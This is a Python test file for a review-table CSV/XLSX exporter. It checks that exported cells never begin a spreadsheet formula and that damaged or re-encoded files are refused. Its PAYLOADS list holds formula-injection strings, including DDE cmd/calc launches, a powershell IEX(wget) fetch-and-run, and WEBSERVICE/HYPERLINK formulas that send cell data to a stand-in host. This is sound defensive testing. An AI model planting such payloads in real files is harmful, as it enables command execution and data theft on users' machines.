"""A review CSV between us and a spreadsheet: nothing in it runs, and no damage passes for what people said."""

import csv
import io
import re
import tempfile
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from querytruth.backends.files.text_formats import unescape_formula
from querytruth.errors import UserError
from querytruth.sets.benchmark_set import Tables
from querytruth.sets.decision_records import QueryDecision
from querytruth.sets.review_csv import name_export, read_review_csv, write_review_csv, write_review_xlsx
from querytruth.sets.review_tables import (
    ImportTolerances,
    ReviewExport,
    ReviewImportResult,
    export_judgments,
    export_queries,
    read_filled_table,
)
from tests.images import make_jpeg
from tests.review.recall_sets import images_table, qrels_table, queries_table, typed_tables

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", '=HYPERLINK("http://x.example","click")',
    '=HYPERLINK("http://x.example?"&A1)', "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    '=WEBSERVICE("http://x.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc'!A", "==1", "=\"a\"&\"b\"", "={1;2}", "=A1:A9", "=@SUM(1)", "=-1", "=+1", "=",
    "+1", "+1+1", "+cmd|' /C calc'!A0", "+86 138", "+SUM(A1:A9)", "++", "-1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "--", "- a list", "−1 with a minus sign", "@SUM(1+9)*cmd|' /C calc'!A0", "@", "@name", "|cmd", "||", "%0A=1+1", "%",
    "\t=1+1", "\ttab", "\r=1+1", "\rcarriage", "\n=1+1", "\nline", "\r\n=1+1", " =1+1", "   +1", " \t -1",
    "\u00a0=1+1", "\u3000=一", "\u2003@SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\u200e=1+1", "\u00ad=1",
    "\x0b=1+1", "\x1f=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "｜cmd", "％", "　＝cmd", "﹦1", "﹢1", "﹣1", "⁼1",
    "₊1", "'=1+1", "''=1+1", "'", "'tis", " '=1", "＇=1", '"=1+1"\n=2+2',
]  # fmt: skip
assert len(set(PAYLOADS)) >= 60
HARMLESS = ["a dog", "", " ", "'", "狗", "1-2", "a=b", "a\r\nb", '"', ",;\t", '""', "[=1", "#NAME?", "nan"]
RISKY = "=+-@|%＝＋－＠｜％−\t\r\n"

LONG = "a very long sentence about a dog that runs " * 8
TEXTS = [
    "狗和猫",
    "  padded  ",
    "1-2",
    "007",
    "true",
    "=1+1",
    'a "big" dog',
    "two\nlines",
    LONG,
    "皮鞋",
    "cat; dog",
    "-5",
]


def tables_of(texts: list[str], evidence: list[str] | None = None) -> Tables:
    """A query per text, two judged images each."""
    queries = [
        {"query_id": f"q_{n:03}", "text": text, "style": "word", "labels": ["a", "b"]} for n, text in enumerate(texts)
    ]
    pairs = [(query["query_id"], image, grade) for query in queries for image, grade in (("img_a", 2), ("img_b", 0))]
    reasons = [reason for reason in evidence or ["why"] * len(texts) for _ in "ab"]
    images = images_table(["a", "b"]).assign(file_name=["=a.jpg", "b.jpg"])
    qrels = qrels_table(pairs, "rule").assign(evidence=reasons)
    return typed_tables(queries=queries_table(queries), images=images, qrels=qrels)


def exports_of(tables: Tables) -> tuple[ReviewExport, ReviewExport]:
    return export_queries(tables, "pets/v1", "d1"), export_judgments(tables, "pets/v1", "d1", 1000)


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


UNSEEN = "".join(c for c in map(chr, range(0x10000)) if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"))


def begins_risky(cell: str) -> bool:
    return cell.lstrip(UNSEEN).startswith(tuple(RISKY)) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("where", ["text", "evidence", "note", "labels"])
def test_no_cell_begins_a_formula_and_every_cell_comes_back(where: str, tmp_path: Path) -> None:
    many = PAYLOADS + HARMLESS
    queries, judgments = exports_of(tables_of(many, many))
    if where in ("note", "labels"):
        queries = replace(queries, rows=queries.rows.assign(**{where: many}))
    for export in (queries, judgments):
        write_review_csv(export, tmp_path / "out.csv")
        for row in cells_of(tmp_path / "out.csv"):
            assert not [cell for cell in row if begins_risky(cell)]
        back = read_review_csv(tmp_path / "out.csv")
        assert back.rows.to_dict("list") == export.rows.to_dict("list")
        assert (back.export_id, back.set_name, back.view, back.sample) == (
            export.export_id, "pets/v1", export.view, export.sample,
        )  # fmt: skip


# Tables are Arrow underneath, so a lone surrogate cannot be in a cell; NUL is refused at the export.
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
SPICED = st.builds(
    lambda *parts: "".join(parts),
    st.sampled_from(["", " ", "'", "\u200b", "\r", '"']),
    st.sampled_from(PAYLOADS),
    ANY_TEXT,
)


@settings(max_examples=100)
@given(st.lists(st.one_of(ANY_TEXT, SPICED), min_size=1, max_size=6))
@example(["\r", "\n", "\r\n", '"\r"', "'\r\n"])
@pytest.mark.thorough
def test_any_text_comes_back_to_the_letter(texts: list[str]) -> None:
    export = exports_of(tables_of(texts))[0]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.csv"
        write_review_csv(export, path)
        assert read_review_csv(path).rows.to_dict("list") == export.rows.to_dict("list")
        assert not [cell for row in cells_of(path) for cell in row if begins_risky(cell)]


def test_an_apostrophe_that_a_person_typed_stays() -> None:
    assert unescape_formula("'tis a dog") == "'tis a dog"


def test_a_row_links_its_image_and_nothing_of_a_set_gets_into_the_formula(tmp_path: Path) -> None:
    """Spreadsheets run the cell: all of it but the folder's name is ours."""
    export = exports_of(tables_of(TEXTS))[1]
    image = "images/0a/img_0a00.jpg"
    shown = [image, 'images/0a/img_0a00.jpg","x")&cmd', "https://x.example/a.jpg", "../images/0a/img_0a00.jpg"]
    export = replace(export, rows=export.rows.iloc[:4].assign(image=shown))
    version = tmp_path / 'my "sets" 50%' / "v1"
    write_review_csv(export, tmp_path / "review" / "judgments.csv", version)
    links = [row[-2] for row in cells_of(tmp_path / "review/judgments.csv")]
    ours = f'=HYPERLINK("./../my%20%22sets%22%2050%25/v1/{image}","open")'
    assert links == ["open", ours, ours, "", ""]
    back = read_review_csv(tmp_path / "review/judgments.csv")
    assert back.rows.to_dict("list") == export.rows.to_dict("list"), "the column is no part of the table"


@pytest.mark.parametrize(("cell", "taken"), [("open", True), ("#NAME?", True), ("Err:508", True), ("drop", False)])
def test_what_a_spreadsheet_makes_of_a_link_is_ignored_but_no_answer(tmp_path: Path, cell: str, taken: bool) -> None:
    path = tmp_path / "judgments.csv"
    write_review_csv(exports_of(tables_of(["dog"]))[1], path, tmp_path)
    rows = cells_of(path)
    rows[1][-2] = cell
    path.write_text("\ufeff" + "\r\n".join(",".join(row) for row in rows), encoding="utf-8")
    if taken:
        assert len(read_review_csv(path).rows) == 2
    else:
        with pytest.raises(UserError, match=r"row 2, column .*: has an answer in the wrong column"):
            read_review_csv(path)


# --- damage -----------------------------------------------------------------------------------------------------


def answered(tmp_path: Path) -> tuple[ReviewExport, Path]:
    """A really exported file, filled in by a careful person: every kind of answer."""
    export = exports_of(tables_of(TEXTS))[0]
    write_review_csv(export, tmp_path / "queries.csv")
    answers = {"q_000": ("drop", "", "模糊\n两行"), "q_001": ("keep", "", ""), "q_003": ("edit", "零零七", 'a "b", c'),
               "q_004": ("", "a new text", ""), "q_008": ("DROP", "", "")}  # fmt: skip
    return export, fill(tmp_path / "queries.csv", answers)


def graded(tmp_path: Path) -> tuple[ReviewExport, Path]:
    export = exports_of(tables_of(TEXTS))[1]
    write_review_csv(export, tmp_path / "judgments.csv")
    answers = {
        "q_000": ("1", None, "half"),
        "q_001": ("drop", None, ""),
        "q_002": ("keep", None, "=1+1"),
        "q_003": ("2", None, ""),
    }
    return export, fill(tmp_path / "judgments.csv", answers)


def fill(path: Path, answers: dict[str, tuple[str, str | None, str]]) -> Path:
    header, *rows = cells_of(path)
    for row in rows:
        for name, value in zip(("decision", "new_text", "note"), answers.pop(row[0], ()), strict=False):
            if value is not None:
                row[header.index(name)] = value
    save(path, [header, *rows])
    return path


def save(
    path: Path, rows: list[list[str]], encoding: str = "utf-8-sig", delimiter: str = ",", line_end: str = "\r\n"
) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator=line_end).writerows(rows)
    path.write_bytes(text.getvalue().encode(encoding))


NO_TOLERANCE = ImportTolerances()


def taken(
    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
) -> ReviewImportResult:
    return read_filled_table(export, read_review_csv(path, encoding).rows, allow, "lin", "2026-01-01")


def refusal(
    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
) -> str:
    """Why a file is refused, all of it; empty where it is taken."""
    try:
        reading = taken(export, path, allow, encoding)
    except UserError as error:
        return str(error)
    assert not (reading.problems and reading.decisions)
    return "\n".join(reading.problems)


Rows = list[list[str]]


def cell(query: str, column: str, to: Callable[[str], str]) -> Callable[[Rows], Rows]:
    """One cell of one row comes back otherwise."""

    def damage(rows: Rows) -> Rows:
        at = rows[0].index(column)
        return [[*r[:at], to(r[at]), *r[at + 1 :]] if r[0] == query else r for r in rows]

    return damage


def column(name: str, to: Callable[[list[str]], list[str] | None]) -> Callable[[Rows], Rows]:
    """One column, its name included, comes back otherwise or not at all."""

    def damage(rows: Rows) -> Rows:
        at = rows[0].index(name)
        new = to([r[at] for r in rows])
        return [[*r[:at], *([] if new is None else [new[n]]), *r[at + 1 :]] for n, r in enumerate(rows)]

    return damage


SAME = "same"
CELL_DAMAGE: list[tuple[str, Callable[[Rows], Rows], str]] = [
    ("id truncated", cell("q_003", "query_id", lambda c: c[:-1]), r"row 5, query_id: 'q_00' is not in the export"),
    ("text trimmed", cell("q_001", "text", str.strip), r"row 3, text: 'padded' was exported as '  padded  '"),
    ("digest changed", cell("q_001", "row_digest", lambda c: c[:-1] + "x"), r"row 3, row_digest: "),
    ("1-2 turned into a date", cell("q_002", "text", lambda _: "2-Jan"), r"row 4, text: '2-Jan' was exported as '1-2'"),
    ("level 1 to 1.0", column("level", lambda cs: [c.replace("1", "1.0") for c in cs]), r"row 2, level: '1.0'"),
    ("formula-apostrophe removed", cell("q_005", "text", lambda c: c[1:]), SAME),
    ("smart quotes in a note", cell("q_000", "decision", lambda _: "“drop”"), r"row 2, decision: '“drop”' is not one"),
    ("line end in a cell LF to CRLF", cell("q_007", "text", lambda c: c.replace("\n", "\r\n")), SAME),
    ("line end in a note LF to CRLF", cell("q_000", "note", lambda c: c.replace("\n", "\r\n")), SAME),
    ("new_text cut at 255", cell("q_003", "new_text", lambda _: LONG[:255]), r"row 5, new_text: .*\(255 characters\)"),
    ("#NAME? as new_text", cell("q_003", "new_text", lambda _: "#NAME?"), r"row 5, new_text: '#NAME\?'"),
    ("##### as new_text", cell("q_003", "new_text", lambda _: "########"), r"row 5, new_text: '####"),
    ("new_text to ???", cell("q_003", "new_text", lambda _: "???"), r"row 5, new_text: '\?\?\?'"),
    ("note to ??", cell("q_000", "note", lambda _: "??"), r"row 2, note: '\?\?'"),
    ("new_text with replacement marks", cell("q_003", "new_text", lambda _: "零\ufffd"), r"row 5, new_text: "),
    ("NUL in a text", cell("q_001", "text", lambda c: c + "\x00"), r"row 3, column 2 .*NUL"),
    ("decision lost, note left", cell("q_000", "decision", lambda _: ""), r"row 2, note: a note without a decision"),
    ("decision mistyped", cell("q_000", "decision", lambda _: "dorp"), r"row 2, decision: 'dorp' is not one of keep"),
    ("decision full-width, padded", cell("q_000", "decision", lambda _: "  ＤＲＯＰ　"), SAME),
    ("edit lost its text", cell("q_003", "new_text", lambda _: " "), r"row 5, new_text: an edit needs a new text"),
    ("trailing empty columns", lambda rows: [[*r, "", "", ""] for r in rows], SAME),
    ("trailing empty cells cut", lambda rows: [[c for n, c in enumerate(r) if any(r[n:])] for r in rows], SAME),
    ("trailing empty rows", lambda rows: [*rows, [""] * len(rows[0]), [], [""], [" ", ""]], SAME),
    ("blank row in the middle", lambda rows: [*rows[:4], [], *rows[4:]], SAME),
    ("a cell outside", lambda rows: [*rows[:2], [*rows[2], "", "why?"], *rows[3:]], r"row 3, column 16 .*outside"),
    ("stray cells", lambda rows: [[*rows[0], "", ""], [*rows[1], "x", "y"], *rows[2:]], r"row 2, column 15 "),
    ("a cell below the export", lambda rows: [rows[0], [*rows[1][:-1], "why?"], *rows[2:]], r"row 2, column 14 .*side"),
    ("columns reordered", lambda rows: [[*r[5:], *r[:5]] for r in rows], SAME),
    ("column deleted", column("text", lambda _: None), r"row 1, text: the column is missing"),
    ("answer column deleted", column("note", lambda _: None), r"row 1, note: the column is missing"),
    ("header renamed", column("decision", lambda cs: ["Decision", *cs[1:]]), r"row 1, decision: the column is missing"),
    ("header emptied", column("decision", lambda cs: ["", *cs[1:]]), r"row 2, column 10 "),
    ("header doubled", column("note", lambda cs: ["decision", *cs[1:]]), r"row 1 .*'decision' occurs twice"),
    ("column added", lambda rows: [[*r, "extra"] for r in rows], r"row 1, 'extra': the column was not"),
    ("row deleted", lambda rows: [*rows[:3], *rows[4:]], r"row 4 of the export, query_id: q_002 is missing"),
    ("row doubled, agreeing", lambda rows: [*rows, rows[1]], r"row 14, query_id: 'q_000' occurs twice"),
    ("row contradicted", lambda rows: [*rows, [c.replace("drop", "keep") for c in rows[1]]], "row 14, .*not the same"),
    ("row added", lambda rows: [*rows, ["q_999", "new", *rows[1][2:]]], r"row 14, query_id: 'q_999' is not in"),
    ("rows sorted otherwise", lambda rows: [rows[0], *sorted(rows[1:], key=lambda r: r[1])], SAME),
    ("one column sorted alone", column("text", lambda cs: [cs[0], *sorted(cs[1:])]), r"row 2, text: "),
    ("first line lost", lambda rows: rows[1:], r"row 1 .*does not name an export"),
    ("the export's column deleted", lambda rows: [row[:-1] for row in rows], r"row 1 .*does not name an export"),
    ("columns' names lost", lambda rows: [[""] * 13 + rows[0][13:], *rows[1:]], r"row 1 .*no column names"),
    ("only the first line left", lambda rows: rows[:1], r"row 2 of the export"),
]  # fmt: skip


@pytest.mark.parametrize(("damage", "says"), [d[1:] for d in CELL_DAMAGE], ids=[d[0] for d in CELL_DAMAGE])
@pytest.mark.thorough
def test_damage_is_refused_by_row_or_changes_nothing(damage: Callable[[Rows], Rows], says: str, tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    undamaged = taken(export, path).decisions
    assert [(d.query_id, d.decision) for d in undamaged] == [
        ("q_000", "drop"), ("q_001", "keep"), ("q_003", "edit"), ("q_004", "edit"), ("q_008", "drop"),
    ]  # fmt: skip
    save(path, damage(cells_of(path)))
    if says == SAME:
        key = QueryDecision.as_json
        assert sorted(taken(export, path).decisions, key=key) == sorted(undamaged, key=key)
    else:
        assert re.search(says, refusal(export, path))


FILE_DAMAGE: list[tuple[str, Callable[[bytes], bytes], str]] = [
    ("mark at the start removed, as LibreOffice does", lambda data: data[3:], SAME),
    ("mark doubled", lambda data: b"\xef\xbb\xbf" + data, SAME),
    ("saved as GB18030", lambda data: data.decode("utf-8-sig").encode("gb18030"), "--encoding gb18030"),
    ("saved as cp1252", lambda data: data.decode("utf-8-sig").encode("cp1252", "replace"), r"row 2, text: '\?\?\?'"),
    ("UTF-16", lambda data: data.decode("utf-8-sig").encode("utf-16"), SAME),
    ("UTF-16 without its mark", lambda data: data.decode("utf-8-sig").encode("utf-16-le"), "not state its encoding"),
    ("UTF-16 cut in half a character", lambda data: data.decode("utf-8-sig").encode("utf-16")[:-1], "not valid utf-16"),
    ("line ends LF", lambda data: data.replace(b"\r\n", b"\n"), SAME),
    ("line ends CR", lambda data: data.replace(b"\r\n", b"\r"), SAME),
    ("all line ends CR, in cells too", lambda data: data.replace(b"\r\n", b"\r").replace(b"\n", b"\r"), SAME),
    ("line ends CRLF, in cells too", lambda data: data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), SAME),
    ("cut in the middle", lambda data: data[: len(data) * 2 // 3], r"row \d+"),
    ("last line end gone", lambda data: data[:-2], SAME),
    ("a stray byte", lambda data: data.replace(b"padded", b"pad\xffded"), r"line 4 .*is not valid utf-8"),
    ("a lone surrogate", lambda data: data.replace(b"padded", b"\xed\xa0\x80"), r"line 4 .*is not valid utf-8"),
    ("NUL bytes at the end", lambda data: data + b"\x00" * 512, r"row 14, column 1 .*NUL"),
    ("zeroed block", lambda data: data[:200] + b"\x00" * 100 + data[300:], r"row \d+"),
    ("empty", lambda data: b"", "row 1 .*does not name an export"),
    ("a web page", lambda data: b"<html><body>404</body></html>", "row 1 .*does not name an export"),
    ("quotes stripped", lambda data: data.replace(b'"', b""), r"row \d+"),
    ("delimiters replaced in the file", lambda data: data.replace(b",", b"|"), r"row 1 .*does not name an export"),
]  # fmt: skip


@pytest.mark.parametrize(("damage", "says"), [d[1:] for d in FILE_DAMAGE], ids=[d[0] for d in FILE_DAMAGE])
@pytest.mark.thorough
def test_a_damaged_file_is_refused_or_read_alike(damage: Callable[[bytes], bytes], says: str, tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    undamaged = taken(export, path).decisions
    path.write_bytes(damage(path.read_bytes()))
    if says == SAME:
        assert taken(export, path).decisions == undamaged
    else:
        assert re.search(says, refusal(export, path))


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gb18030", "gbk", "utf-8"])
@pytest.mark.thorough
def test_every_way_in_which_spreadsheets_save_is_read_alike(delimiter: str, encoding: str, tmp_path: Path) -> None:
    for export, path in (answered(tmp_path), graded(tmp_path)):
        undamaged = taken(export, path).decisions
        save(path, cells_of(path), encoding, delimiter, line_end="\n")
        told = None if encoding in ("utf-8-sig", "utf-16", "utf-8") else encoding
        assert taken(export, path, encoding=told).decisions == undamaged
        if told is not None:
            assert "--encoding" in refusal(export, path)


def test_utf8_without_its_mark_is_read_where_the_digests_prove_it(tmp_path: Path) -> None:
    """LibreOffice 7.4 has no way to save the mark."""
    export, path = answered(tmp_path)
    undamaged = taken(export, path).decisions
    path.write_bytes(path.read_bytes()[3:])
    assert taken(export, path).decisions == undamaged


def test_gbk_that_is_valid_utf8_by_accident_is_refused(tmp_path: Path) -> None:
    by_accident = "Āć".encode().decode("gbk")
    for texts in (["a cat", "a dog"], ["a cat", by_accident]):
        export = exports_of(tables_of(texts))[0]
        write_review_csv(export, tmp_path / "queries.csv")
        path = fill(tmp_path / "queries.csv", {"q_000": ("edit", by_accident, "")})
        data = path.read_bytes().decode("utf-8-sig").encode("gbk")
        assert data.decode("utf-8"), "it is valid UTF-8"
        path.write_bytes(data)
        assert "--encoding gb18030" in refusal(export, path)


@pytest.mark.parametrize("wrong", ["latin-1", "cp1252", "gbk", "gb18030", "big5", "utf-16", "utf-32", "shift_jis"])
@pytest.mark.thorough
def test_a_wrong_encoding_is_refused(wrong: str, tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    path.write_bytes(path.read_bytes()[3:])
    assert refusal(export, path, encoding=wrong)


@pytest.mark.parametrize("name", ["klingon", "base64", "idna", "a\x00b", "undefined"])
def test_an_encoding_that_is_none_is_named(name: str, tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    path.write_bytes(path.read_bytes()[3:])
    assert "give --encoding" in refusal(export, path, encoding=name)


GRADE_CELLS = [("２", 2), ("2.0", 2), (" 1 ", 1), ("１．０", 1), ("0", 0), ("0.00", 0)]
NO_GRADES = ["3", "-1", "1.5", "2,0", "1-2", "2-Jan", "1e0", "9" * 5000, "grade", "edit", "yes", "٣", "#REF!", "½"]


@pytest.mark.parametrize(("said", "meant"), GRADE_CELLS)
@pytest.mark.thorough
def test_a_grade_is_read_as_it_was_meant(said: str, meant: int, tmp_path: Path) -> None:
    export, path = graded(tmp_path)
    save(path, cell("q_000", "decision", lambda _: said)(cells_of(path)))
    first, second = (d for d in taken(export, path).decisions if d.query_id == "q_000")
    assert (first.decision, first.relevance) == (second.decision, second.relevance) == ("grade", meant)


@pytest.mark.parametrize("said", NO_GRADES)
@pytest.mark.thorough
def test_what_is_no_grade_is_refused(said: str, tmp_path: Path) -> None:
    export, path = graded(tmp_path)
    save(path, cell("q_000", "decision", lambda _: said)(cells_of(path)))
    assert re.search(r"row 2, decision: .* is not one of keep, drop, 0, 1, 2", refusal(export, path))


ALLOWED: dict[str, Callable[[Rows], Rows]] = {
    "missing": lambda rows: [*rows[:3], *rows[4:]],
    "doubled": lambda rows: [*rows, rows[1]],
    "unknown": lambda rows: [*rows, ["q_999", *rows[1][1:]]],
    "changed": cell("q_002", "text", lambda _: "2-Jan"),
}


@pytest.mark.parametrize("case", ALLOWED)
@pytest.mark.parametrize("flag", ALLOWED)
@pytest.mark.thorough
def test_each_flag_allows_its_own_case_and_no_other(case: str, flag: str, tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    undamaged = taken(export, path).decisions
    save(path, ALLOWED[case](cells_of(path)))
    allow = ImportTolerances(**{flag: True})
    if case == flag:
        assert taken(export, path, allow).decisions == undamaged
    else:
        assert "row " in refusal(export, path, allow)


def test_all_flags_together_still_refuse_what_none_allows(tmp_path: Path) -> None:
    export, path = answered(tmp_path)
    everything = ImportTolerances(True, True, True, True)
    rows = cells_of(path)
    hopeless = [
        "column deleted",
        "row contradicted",
        "#NAME? as new_text",
        "decision mistyped",
        "first line lost",
    ]
    for damage, says in [(damage, says) for name, damage, says in CELL_DAMAGE if name in hopeless]:
        save(path, damage(rows))
        assert re.search(says, refusal(export, path, everything))


def test_a_table_whose_first_line_is_the_export_is_read_alike(tmp_path: Path) -> None:
    """As tables were written before: people fill them in for weeks."""
    for export, path in (answered(tmp_path), graded(tmp_path)):
        undamaged = taken(export, path).decisions
        header, *rows = [row[:-1] for row in cells_of(path)]
        save(path, [[name_export(export)], header, *rows])
        assert taken(export, path).decisions == undamaged != []
        save(path, [[name_export(export)], header, [*rows[0][:-1], "r_0"], *rows[1:]])
        assert "row 3, row_digest" in refusal(export, path)


# --- .xlsx ------------------------------------------------------------------------------------------------------


JPEG = make_jpeg(size=(40, 20))


def write_sheet(folder: Path, texts: list[str]) -> tuple[ReviewExport, Path]:
    export = exports_of(tables_of(texts))[1]
    thumbnails = [JPEG if number % 3 else None for number in range(len(export.rows))]
    write_review_xlsx(export, folder / "judgments.xlsx", thumbnails)
    return export, folder / "judgments.xlsx"


def test_a_sheet_has_texts_alone_and_an_image_in_each_row(tmp_path: Path) -> None:
    """Read by openpyxl, which knows what a spreadsheet would run."""
    many = [one for one in PAYLOADS + HARMLESS if not re.search(r"[\x0b\x1f\r]", one)]
    export, path = write_sheet(tmp_path, many)
    sheet = openpyxl.load_workbook(path).active
    header, *rows = sheet.iter_rows()
    assert [cell.value for cell in header] == ["open", *export.rows, name_export(export)]
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"} and len(rows) == len(export.rows)
    assert not [cell.value for row in rows for cell in row if cell.value is not None and begins_risky(str(cell.value))]
    assert {cell.number_format for cell in rows[0]} == {"@"} and sheet.freeze_panes == "A2"
    assert [one.anchor._from.row for one in sheet._images] == [n + 1 for n in range(len(rows)) if n % 3]
    assert read_review_csv(path).rows.to_dict("list") == export.rows.to_dict("list")


def test_every_text_comes_back_from_a_sheet(tmp_path: Path) -> None:
    many = [*PAYLOADS, *HARMLESS, "a_x000B_b", "_x005F_", "<&>]]>", "a\x01b"]
    export, path = write_sheet(tmp_path, many)
    assert read_review_csv(path).rows.to_dict("list") == export.rows.to_dict("list")


def fill_sheet(path: Path, change: Callable[[Any], None]) -> None:
    """What a person does in a spreadsheet, saved by openpyxl with its images."""
    book = openpyxl.load_workbook(path)
    change(book.active)
    book.save(path)


def place(sheet: Any, name: str) -> int:
    return next(cell.column for cell in sheet[1] if cell.value == name)


def test_answers_in_a_sheet_are_read_with_the_guards_of_a_csv(tmp_path: Path) -> None:
    export, path = write_sheet(tmp_path, TEXTS)

    def answer(sheet: Any) -> None:
        sheet.cell(2, place(sheet, "decision")).value = 2  # a number, as a person types it
        sheet.cell(3, place(sheet, "decision")).value = "drop"
        sheet.cell(3, place(sheet, "note")).value = "=1+1"
        sheet.cell(3, place(sheet, "note")).data_type = "s"

    fill_sheet(path, answer)
    decisions = taken(export, path).decisions
    assert [(one.decision, one.relevance, one.note) for one in decisions] == [("grade", 2, ""), ("drop", None, "=1+1")]
    damages: dict[str, Callable[[Any], None]] = {
        "row 5, text: 'other'": lambda sheet: setattr(sheet.cell(5, place(sheet, "text")), "value", "other"),
        "row 4 of the export": lambda sheet: sheet.delete_rows(4),
        "occurs twice": lambda sheet: sheet.append([cell.value for cell in sheet[4]]),
        "is not in the export": lambda sheet: setattr(sheet.cell(6, place(sheet, "image_id")), "value", "img_z"),
        "text: the column is missing": lambda sheet: sheet.delete_cols(place(sheet, "text")),
        "does not name an export": lambda sheet: sheet.delete_cols(place(sheet, name_export(export))),
        "decision: 'dorp' is not one of": lambda sheet: setattr(
            sheet.cell(7, place(sheet, "decision")), "value", "dorp"
        ),
    }
    whole = path.read_bytes()
    for says, damage in damages.items():
        path.write_bytes(whole)
        fill_sheet(path, damage)
        assert says in refusal(export, path), says


def test_rows_that_moved_in_a_sheet_change_no_decision(tmp_path: Path) -> None:
    export, path = write_sheet(tmp_path, TEXTS)
    fill_sheet(path, lambda sheet: setattr(sheet.cell(2, place(sheet, "decision")), "value", "1"))
    before = taken(export, path).decisions

    def turn_over(sheet: Any) -> None:
        cells = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
        for number, row in enumerate(reversed(cells), start=2):
            for column, value in enumerate(row, start=1):
                sheet.cell(number, column).value = value
                sheet.cell(number, column).data_type = "s" if value is not None else "n"

    fill_sheet(path, turn_over)
    assert taken(export, path).decisions == before != []


def test_what_is_no_sheet_is_named(tmp_path: Path) -> None:
    (tmp_path / "cut.xlsx").write_bytes(write_sheet(tmp_path, TEXTS)[1].read_bytes()[:900])
    with pytest.raises(UserError, match=r"not a readable .xlsx"):
        read_review_csv(tmp_path / "cut.xlsx")


def test_a_row_number_is_the_spreadsheet_s_and_not_the_line_s(tmp_path: Path) -> None:
    """A cell with line ends is one row."""
    export, path = answered(tmp_path)
    save(path, cell("q_008", "decision", lambda _: "perhaps")(cells_of(path)))
    assert refusal(export, path).startswith("row 10, decision")


def test_what_is_no_review_file_is_named(tmp_path: Path) -> None:
    import os

    os.mkfifo(tmp_path / "pipe")
    for path, says in (
        (tmp_path, "is not a file"),
        (tmp_path / "pipe", "is not a file"),
        (tmp_path / "none.csv", "No such file"),
    ):
        with pytest.raises(UserError, match=says):
            read_review_csv(path)


def test_a_text_with_nul_is_refused_at_the_export(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"row 3 .*NUL"):
        write_review_csv(exports_of(tables_of(["a", "b\x00c"]))[0], tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()
